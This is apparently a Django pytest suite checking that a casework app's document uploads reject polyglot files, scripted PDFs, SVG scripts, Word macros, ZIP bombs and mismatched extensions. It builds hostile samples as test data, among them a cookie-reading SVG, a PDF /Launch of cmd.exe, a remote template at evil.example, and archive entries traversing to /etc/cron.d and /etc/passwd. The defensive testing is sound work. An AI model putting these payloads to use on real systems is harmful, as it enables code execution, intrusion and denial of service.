"""Document uploads refuse what their type alone does not rule out (issue 14):
files that are also another type (a PDF/HTML polyglot), active content (web
pages, SVG, PDFs with scripts or attached files unless the agency accepts
them, Word macros), ZIP documents that unpack too far or hold too many parts,
and names whose extension disagrees with the bytes. Every refusal is a 400
naming ``file`` with its own code, on the page and in the API, and nothing is
written: no row, no file.

The payloads are built here, in Python: a 194 KB DOCX that unpacks to 200 MB,
a ZIP of 5,000 parts, PDFs made by WeasyPrint and pypdf as well as by hand."""

import functools
import io
import random
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from accounts import services as account_services
from accounts.models import Agency
from casework import services
from casework.models import Document
from casework.services import file_checks
from config.errors import Forbidden, InvalidInput
from tests.helpers import assert_problem, case_url, field_errors, page

pytestmark = pytest.mark.django_db

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT_TYPE = "application/vnd.oasis.opendocument.text"


# --- Payloads ---------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"<< /Root 1 0 R >>", header=b"%PDF-1.7\n") -> bytes:
    """A PDF of the given object bodies (numbered from 1), enough for the checks."""
    body = header + b"%\xe2\xe3\xcf\xd3\n"
    for number, content in enumerate(objects, 1):
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    return body + b"trailer\n" + trailer + b"\n%%EOF\n"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def object_stream(*objects: bytes) -> bytes:
    """A Flate-compressed object stream holding ``objects`` (numbered from 10)."""
    offsets, body = [], b""
    for content in objects:
        offsets.append(len(body))
        body += content + b" "
    header = b" ".join(b"%d %d" % (10 + index, offset) for index, offset in enumerate(offsets))
    header += b" "
    packed = zlib.compress(header + body)
    return stream(
        packed, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(objects), len(header))
    )


@functools.cache
def weasyprint_pdf() -> bytes:
    import weasyprint

    html = "<h1>Decision</h1>" + "<p>The application is accepted.</p>" * 200
    return weasyprint.HTML(string=html).write_pdf()


def pypdf_pdf(change=None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_javascript(writer):
    from pypdf.actions import JavaScript

    writer.add_open_action(JavaScript("app.alert('hello');"))


def with_attachment(writer):
    writer.add_attachment("passport.exe", b"MZ\x90\x00")


def image(kind: str, **save) -> bytes:
    picture = Image.effect_noise((64, 48), 40).convert("RGB")
    out = io.BytesIO()
    picture.save(out, kind, **save)
    return out.getvalue()


def filler(size: int) -> bytes:
    """Bytes with no markup in them, the same in every run."""
    return random.Random(size).randbytes(size).replace(b"<", b"(").replace(b":", b";")


def zip_bytes(*entries, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in entries:
            if isinstance(content, tuple):  # (chunk, times): streamed, never held whole
                chunk, times = content
                with archive.open(name, "w", force_zip64=False) as entry:
                    for _ in range(times):
                        entry.write(chunk)
            else:
                info = zipfile.ZipInfo(name)
                info.compress_type = compression if name != "mimetype" else zipfile.ZIP_STORED
                archive.writestr(info, content)
    return out.getvalue()


DOCX_PARTS = (
    (
        "[Content_Types].xml",
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
    ),
    ("_rels/.rels", '<?xml version="1.0"?><Relationships/>'),
    ("word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p>"),
    (
        "word/_rels/document.xml.rels",
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/hyperlink" Target="https://example.org/" '
        'TargetMode="External"/></Relationships>',
    ),
)


def docx(*extra, parts=DOCX_PARTS) -> bytes:
    return zip_bytes(*parts, *extra)


def odt(*extra) -> bytes:
    return zip_bytes(
        ("mimetype", ODT_TYPE),
        ("content.xml", "<office:document-content><text:p>Hello</text:p>"),
        ("styles.xml", "<office:document-styles/>"),
        ("META-INF/manifest.xml", "<manifest:manifest/>"),
        *extra,
    )


@functools.cache
def docx_bomb() -> bytes:
    """The issue's DOCX: about 194 KB that unpacks to 200 MB of zeros."""
    return docx(("word/media/blank.xml", (b"\0" * 1024 * 1024, 200)))


def patch_central(data: bytes, name: bytes, offset: int, fmt: str, value: int) -> bytes:
    """Change a field of ``name``'s central directory record, what zipfile
    (and the checks) read first; its local header is left as it was."""
    data = bytearray(data)
    start = 0
    while True:
        start = data.find(b"PK\x01\x02", start)
        length = struct.unpack("<H", data[start + 28 : start + 30])[0]
        if bytes(data[start + 46 : start + 46 + length]) == name:
            break
        start += 4
    struct.pack_into(fmt, data, start + offset, value)
    return bytes(data)


def check(data: bytes, name: str, *, allow_active_pdf=False) -> None:
    content_type = services.sniff_content_type(data[:8192])
    assert content_type in services.ACCEPTED_DOCUMENT_TYPES, content_type
    file_checks.check_document(
        data=data, name=name, content_type=content_type, allow_active_pdf=allow_active_pdf
    )


def refusal(data: bytes, name: str, **options) -> InvalidInput:
    with pytest.raises(InvalidInput) as refused:
        check(data, name, **options)
    assert refused.value.field == "file"
    return refused.value


# --- What stays accepted ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "content_type", "extension"),
    [
        ("decision.pdf", weasyprint_pdf, "application/pdf", "pdf"),
        ("blank.pdf", pypdf_pdf, "application/pdf", "pdf"),
        ("SCAN.PDF", lambda: pdf(CATALOG, PAGES), "application/pdf", "pdf"),
        ("photo.png", lambda: image("PNG"), "image/png", "png"),
        ("photo.jpeg", lambda: image("JPEG"), "image/jpeg", "jpg"),
        ("photo.jpg", lambda: image("JPEG", comment=b"Taken at the office"), "image/jpeg", "jpg"),
        ("photo.webp", lambda: image("WEBP"), "image/webp", "webp"),
        ("scan.tiff", lambda: image("TIFF"), "image/tiff", "tif"),
        ("letter.docx", docx, DOCX_TYPE, "docx"),
        (
            "chart.docx",
            lambda: docx(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", zip_bytes(("a", "b")))),
            DOCX_TYPE,
            "docx",
        ),
        ("letter.odt", odt, ODT_TYPE, "odt"),
    ],
)
def test_ordinary_documents_are_stored(caseworker, case, name, build, content_type, extension):
    content = build()
    document = services.upload_document(
        actor=caseworker,
        case_id=case.pk,
        uploaded_file=SimpleUploadedFile(name, content),
        category="legal",
    )
    assert (document.content_type, document.extension) == (content_type, extension)
    with document.file.open("rb") as stored:
        assert stored.read() == content
    assert document.size == len(content)


def test_every_accepted_type_has_the_extensions_its_name_may_end_in():
    assert set(file_checks.NAME_EXTENSIONS) == set(services.ACCEPTED_DOCUMENT_TYPES)
    for content_type, extension in services.ACCEPTED_DOCUMENT_TYPES.items():
        assert extension in file_checks.NAME_EXTENSIONS[content_type]


# --- Polyglots --------------------------------------------------------------------------

HTML = b"<html><body><script>fetch('/api/v1/clients/')</script></body></html>"
PDF_HTML_POLYGLOT = pdf(CATALOG, PAGES, header=b"%PDF-1.4\n%" + HTML + b"\n")


@pytest.mark.parametrize(
    ("name", "build", "found"),
    [
        ("polyglot.pdf", lambda: PDF_HTML_POLYGLOT, "<html"),
        (
            "deep.pdf",
            lambda: pdf(
                CATALOG,
                PAGES,
                *[b"<< /Filler (%s) >>" % (b"x" * 500)] * 10,
                b"<< /Title (<iframe src=https://example.org>) >>",
                *[b"<< /Filler (%s) >>" % (b"x" * 500)] * 10,
            ),
            "<iframe",
        ),
        (
            "stream.pdf",
            lambda: pdf(CATALOG, PAGES, stream(b"%s%s%s" % (b"0 0 m " * 1000, HTML, b" S" * 3000))),
            "<html",
        ),
        ("after-eof.pdf", lambda: pdf(CATALOG, PAGES) + b"<svg onload=alert(1)>", "<svg"),
        ("appended.png", lambda: image("PNG") + HTML, "<html"),
        (
            "padded.png",
            lambda: image("PNG") + filler(8000) + HTML + filler(8000),
            "<html",
        ),
        (
            "text-chunk.png",
            lambda: image("PNG", pnginfo=_png_text("<svg onload=alert(1)>", compressed=True)),
            "<svg",
        ),
        (
            "segment.jpg",
            lambda: _jpeg_with_segment(b"\xff\xfe", b"<script>x()</script>"),
            "<script",
        ),
        (
            "after-end.jpg",
            lambda: image("JPEG") + filler(6000) + b"javascript:alert(1)" + filler(6000),
            "javascript:",
        ),
        ("docx-tail.docx", lambda: docx() + HTML, None),
        ("docx-junk.docx", lambda: docx() + b"x" * 5000, None),
    ],
)
def test_a_file_that_is_also_a_web_page_is_refused(name, build, found):
    refused = refusal(build(), name)
    assert refused.code == "polyglot_file"
    if found:
        assert f"“{found}”" in str(refused.message)


def _png_text(text: str, *, compressed: bool) -> PngInfo:
    info = PngInfo()
    info.add_text("Comment", text, zip=compressed)
    return info


def _jpeg_with_segment(marker: bytes, payload: bytes, *, padding: int = 10000) -> bytes:
    """A JPEG with an application segment of ``padding`` bytes, then ``marker``'s segment."""
    picture = image("JPEG")
    padding = b"\xff\xe2" + struct.pack(">H", padding + 2) + filler(padding)
    segment = marker + struct.pack(">H", len(payload) + 2) + payload
    return picture[:2] + padding + segment + padding + picture[2:]


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("bom.pdf", lambda: b"\xef\xbb\xbf" + pdf(CATALOG, PAGES)),
        ("zipped.pdf", lambda: pdf(CATALOG, PAGES) + zip_bytes(("run.js", "alert(1)"))),
        ("zipped.png", lambda: image("PNG") + zip_bytes(("run.js", "alert(1)"))),
        ("also-pdf.jpg", lambda: _jpeg_with_segment(b"\xff\xfe", b"%PDF-1.4 1 0 obj", padding=10)),
    ],
)
def test_a_file_that_is_also_another_type_is_refused(name, build):
    assert refusal(build(), name).code == "polyglot_file"


# --- Active content ---------------------------------------------------------------------

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("drawing.svg", SVG, "SVG drawings are not accepted"),
        ("drawing.pdf", SVG, "SVG drawings are not accepted"),
        ("page.html", b"<!DOCTYPE html>\n" + HTML, "Web pages"),
    ],
)
def test_svg_and_web_pages_are_refused_as_active_content(caseworker, case, name, content, says):
    with pytest.raises(InvalidInput) as refused:
        services.upload_document(
            actor=caseworker,
            case_id=case.pk,
            uploaded_file=SimpleUploadedFile(name, content),
            category="legal",
        )
    assert (refused.value.field, refused.value.code) == ("file", "active_content")
    assert says in str(refused.value.message)
    assert not Document.objects.exists()


def _objstm_pdf(*objects: bytes) -> bytes:
    return pdf(CATALOG, PAGES, object_stream(*objects))


@pytest.mark.parametrize(
    ("name", "build", "active_name"),
    [
        ("javascript.pdf", lambda: pypdf_pdf(with_javascript), "/JavaScript"),
        ("attachment.pdf", lambda: pypdf_pdf(with_attachment), "/EmbeddedFile"),
        (
            "escaped.pdf",
            lambda: pdf(
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                PAGES,
                b"<< /S /J#61va#53cript /JS (app.alert(1)) >>",
            ),
            "/JavaScript",
        ),
        (
            "launch.pdf",
            lambda: pdf(CATALOG, PAGES, b"<< /S /Launch /F (cmd.exe) >>"),
            "/Launch",
        ),
        (
            "packed-script.pdf",
            lambda: _objstm_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            "/JavaScript",
        ),
        (
            "packed-escaped.pdf",
            lambda: _objstm_pdf(b"<< /S /#4aavaScript /JS 12 0 R >>"),
            "/JavaScript",
        ),
        (
            "packed-actions.pdf",
            lambda: _objstm_pdf(b"<< /Type /Page /AA << /O 11 0 R >> >>"),
            "/AA",
        ),
        (
            "actions.pdf",
            lambda: pdf(
                CATALOG, PAGES, b"<< /Type /Page /AA << /O << /S /GoTo /D [3 0 R] >> >> >>"
            ),
            "/AA",
        ),
        (
            "xfa.pdf",
            lambda: pdf(b"<< /Type /Catalog /AcroForm << /XFA 3 0 R >> >>", PAGES),
            "/XFA",
        ),
    ],
)
def test_a_pdf_with_scripts_or_attachments_is_refused(name, build, active_name):
    refused = refusal(build(), name)
    assert refused.code == "active_content"
    assert active_name in str(refused.message)


def test_a_pdf_whose_object_streams_are_encrypted_cannot_be_checked():
    scrambled = stream(filler(300), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    encrypted = pdf(
        CATALOG,
        PAGES,
        scrambled,
        b"<< /Filter /Standard /V 4 /R 4 >>",
        trailer=b"<< /Root 1 0 R /Encrypt 4 0 R >>",
    )
    assert refusal(encrypted, "locked.pdf").code == "pdf_not_checkable"
    check(encrypted, "locked.pdf", allow_active_pdf=True)
    # Without object streams every dictionary is in the clear: checked, accepted.
    check(
        pdf(
            CATALOG, PAGES, b"<< /Filter /Standard >>", trailer=b"<< /Root 1 0 R /Encrypt 3 0 R >>"
        ),
        "restricted.pdf",
    )


def test_a_pdf_whose_structure_unpacks_too_far_is_refused():
    packed = zlib.compress(b"10 0 " + b" " * (file_checks.PDF_STRUCTURE_MAX_BYTES + 1024), 9)
    bomb = pdf(CATALOG, PAGES, stream(packed, b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"))
    assert len(bomb) < 200_000
    assert refusal(bomb, "bomb.pdf").code == "compression_ratio_too_high"


def test_the_agency_may_accept_pdfs_with_scripts_and_attachments(
    caseworker, agency_admin, agency, case
):
    def upload(name, content):
        return services.upload_document(
            actor=caseworker,
            case_id=case.pk,
            uploaded_file=SimpleUploadedFile(name, content),
            category="legal",
        )

    scripted, attached = pypdf_pdf(with_javascript), pypdf_pdf(with_attachment)
    for content in (scripted, attached):
        with pytest.raises(InvalidInput) as refused:
            upload("form.pdf", content)
        assert refused.value.code == "active_content"
    account_services.set_agency_allow_active_pdf(
        actor=agency_admin, agency=agency, allow_active_pdf=True
    )
    assert upload("form.pdf", scripted).content_type == "application/pdf"
    assert upload("form.pdf", attached).content_type == "application/pdf"
    # Accepting scripts does not accept polyglots.
    with pytest.raises(InvalidInput) as refused:
        upload("polyglot.pdf", PDF_HTML_POLYGLOT)
    assert refused.value.code == "polyglot_file"
    assert Document.objects.filter(case=case).count() == 2


@pytest.mark.parametrize(
    ("name", "build", "what"),
    [
        ("macros.docx", lambda: docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "macros"),
        ("control.docx", lambda: docx(("word/activeX/activeX1.xml", "<ax/>")), "embedded"),
        (
            "ole.docx",
            lambda: docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
            "embedded",
        ),
        (
            "template.docx",
            lambda: docx(
                (
                    "word/_rels/settings.xml.rels",
                    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxml'
                    'formats.org/officeDocument/2006/relationships/attachedTemplate" '
                    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    "</Relationships>",
                )
            ),
            "template",
        ),
        ("macros.odt", lambda: odt(("Basic/Standard/Module1.xml", "<script:module/>")), "macros"),
    ],
)
def test_documents_with_macros_or_embedded_programs_are_refused(name, build, what):
    refused = refusal(build(), name)
    assert refused.code == "active_content"
    assert what in str(refused.message)


# --- ZIP-based documents ----------------------------------------------------------------


def test_the_issues_docx_bomb_is_refused_before_anything_is_unpacked(monkeypatch):
    bomb = docx_bomb()
    assert len(bomb) < 250_000
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert sum(info.file_size for info in archive.infolist()) >= 200 * 1024 * 1024

    def unpacked(*args, **kwargs):
        raise AssertionError("a part was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", unpacked)
    refused = refusal(bomb, "bomb.docx")
    assert refused.code == "archive_too_large"
    assert "more than 50 MB" in str(refused.message)


def test_a_part_that_unpacks_a_thousand_fold_is_refused():
    bomb = docx(("word/media/blank.xml", (b"\0" * 1024 * 1024, 20)))
    refused = refusal(bomb, "ratio.docx")
    assert refused.code == "compression_ratio_too_high"
    assert "word/media/blank.xml" in str(refused.message)


def test_a_directory_that_lies_about_sizes_is_caught_while_unpacking():
    honest = docx(("word/media/blank.xml", (b"\0" * 1024 * 1024, 10)))
    lying = patch_central(honest, b"word/media/blank.xml", 24, "<I", 1000)
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert archive.getinfo("word/media/blank.xml").file_size == 1000
    assert refusal(lying, "lying.docx").code == "damaged_file"


def test_a_zip_of_5000_parts_is_refused():
    many = docx(*[(f"word/media/part{index}.xml", "<p/>") for index in range(5000)])
    refused = refusal(many, "many.docx")
    assert refused.code == "archive_too_many_entries"
    assert "1000" in str(refused.message)


@pytest.mark.parametrize(
    ("build", "says"),
    [
        (lambda: docx(("../../etc/cron.d/job", "* * * * * root sh")), "outside the document"),
        (lambda: docx(("/etc/passwd", "root")), "outside the document"),
        (lambda: docx(("word/inner.zip", zip_bytes(("a.txt", "a")))), "another archive"),
        (lambda: docx(("word/embeddings/sheet.xlsm", zip_bytes(("a", "b")))), "another archive"),
        (
            lambda: patch_central(docx(), b"word/document.xml", 8, "<H", 0x1),
            "encrypted",
        ),
        (lambda: _overlapping_docx(), "overlap"),
    ],
)
def test_unsafe_parts_are_refused(build, says):
    refused = refusal(build(), "unsafe.docx")
    assert refused.code == "archive_unsafe_entry"
    assert says in str(refused.message)


def _overlapping_docx() -> bytes:
    """Two directory records pointing at the same packed bytes."""
    data = docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offset = archive.getinfo("word/document.xml").header_offset
    return patch_central(data, b"word/_rels/document.xml.rels", 42, "<I", offset)


def test_an_encrypted_odt_is_refused():
    locked = zip_bytes(
        ("mimetype", ODT_TYPE),
        ("content.xml", b"\x93\x11scrambled"),
        ("META-INF/manifest.xml", "<manifest:file-entry><manifest:encryption-data/>"),
    )
    refused = refusal(locked, "locked.odt")
    assert (refused.code, "encrypted" in str(refused.message)) == ("archive_unsafe_entry", True)


def test_a_docx_without_its_document_is_damaged():
    parts = [part for part in DOCX_PARTS if part[0] != "word/document.xml"]
    broken = docx(("word/styles.xml", "<w:styles/>"), parts=parts)
    assert refusal(broken, "broken.docx").code == "damaged_file"


# --- The name ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "says"),
    [
        ("scan.pdf", lambda: image("PNG"), "ends in “.pdf” but its content is a PNG image"),
        ("photo.png", lambda: image("JPEG"), "Rename it to end in .jpg, .jpeg"),
        ("scan", lambda: pdf(CATALOG, PAGES), "has no extension"),
        ("letter.pdf", docx, "a Word document"),
    ],
)
def test_the_name_must_agree_with_the_bytes(name, build, says):
    refused = refusal(build(), name)
    assert refused.code == "extension_mismatch"
    assert says in str(refused.message)


# --- Through the page and the API: 400 at `file`, nothing written -----------------------


def stored_files(settings) -> list:
    root = settings.PRIVATE_MEDIA_ROOT
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


REFUSED_UPLOADS = [
    ("polyglot.pdf", lambda: PDF_HTML_POLYGLOT, "polyglot_file", "web-page markup"),
    ("bomb.docx", docx_bomb, "archive_too_large", "unpacks to more than 50 MB"),
    ("form.pdf", lambda: pypdf_pdf(with_javascript), "active_content", "contains scripts"),
    ("drawing.svg", lambda: SVG, "active_content", "SVG drawings are not accepted"),
    ("photo.pdf", lambda: image("PNG"), "extension_mismatch", "its content is a PNG image"),
]


@pytest.mark.parametrize(("name", "build", "code", "says"), REFUSED_UPLOADS)
def test_the_api_answers_400_at_file_and_stores_nothing(
    as_user, caseworker, case, settings, name, build, code, says
):
    response = as_user(caseworker).post(
        case_url(case, "documents/"),
        {"file": SimpleUploadedFile(name, build()), "category": "legal"},
        format="multipart",
    )
    body = assert_problem(response, 400, "validation_error")
    assert [(error["field"], error["code"]) for error in body["errors"]] == [("file", code)]
    assert says in body["errors"][0]["detail"]
    assert not Document.objects.exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize(("name", "build", "code", "says"), REFUSED_UPLOADS)
def test_the_page_shows_why_next_to_the_file_and_stores_nothing(
    client_as, caseworker, case, settings, name, build, code, says
):
    response = client_as(caseworker).post(
        reverse("casework:document_upload", args=[case.pk]),
        {"category": "legal", "file": SimpleUploadedFile(name, build())},
    )
    assert response.status_code == 400
    assert says in field_errors(page(response), "document_file")
    assert not Document.objects.exists()
    assert stored_files(settings) == []


def test_an_accepted_upload_stores_exactly_one_file(as_user, caseworker, case, settings):
    response = as_user(caseworker).post(
        case_url(case, "documents/"),
        {"file": SimpleUploadedFile("letter.docx", docx()), "category": "legal"},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    assert response.json()["content_type"] == DOCX_TYPE
    assert len(stored_files(settings)) == 1


# --- The agency's setting ---------------------------------------------------------------


def agency_api(agency) -> str:
    return f"/api/v1/agencies/{agency.slug}/"


def allows(agency) -> bool:
    return Agency.objects.get(pk=agency.pk).allow_active_pdf


def test_active_pdfs_are_refused_by_default(agency):
    assert agency.allow_active_pdf is False


def test_the_agency_admin_changes_the_setting_in_the_api(
    as_user, agency, agency_admin, supervisor, outsider_admin
):
    api = as_user(agency_admin)
    assert api.get(agency_api(agency)).json()["allow_active_pdf"] is False
    response = api.patch(agency_api(agency), {"allow_active_pdf": True}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["allow_active_pdf"] is True
    assert allows(agency)
    latest = Agency.objects.get(pk=agency.pk).history.first()
    assert latest.history_user_id == agency_admin.pk
    assert latest.history_change_reason == "acceptance of PDFs with scripts or attachments changed"

    assert_problem(
        as_user(supervisor).patch(agency_api(agency), {"allow_active_pdf": False}, format="json"),
        403,
    )
    assert_problem(
        as_user(outsider_admin).patch(
            agency_api(agency), {"allow_active_pdf": False}, format="json"
        ),
        404,
    )
    api = as_user(agency_admin)
    body = assert_problem(
        api.patch(agency_api(agency), {"allow_active_pdf": "perhaps"}, format="json"), 400
    )
    assert [error["field"] for error in body["errors"]] == ["allow_active_pdf"]
    assert allows(agency)


def test_the_agency_admin_changes_the_setting_on_the_team_page(agency, agency_admin, client_as):
    web = client_as(agency_admin)
    team_url = reverse("accounts:team", args=[agency.slug])
    setting_url = reverse("accounts:agency_active_pdf", args=[agency.slug])
    assert f'action="{setting_url}"' in page(web.get(team_url))
    response = web.post(setting_url, {"allow_active_pdf": "on"})
    assert (response.status_code, response.url) == (302, team_url)
    assert allows(agency)
    assert "Members may upload PDFs that contain scripts" in page(web.get(team_url))
    web.post(setting_url, {})
    assert not allows(agency)


def test_the_service_checks_the_permission_and_the_value(agency, agency_admin, supervisor):
    with pytest.raises(Forbidden):
        account_services.set_agency_allow_active_pdf(
            actor=supervisor, agency=agency, allow_active_pdf=True
        )
    for value in ("yes", 1, None):
        with pytest.raises(InvalidInput) as refused:
            account_services.set_agency_allow_active_pdf(
                actor=agency_admin, agency=agency, allow_active_pdf=value
            )
        assert refused.value.field == "allow_active_pdf"
    assert not allows(agency)
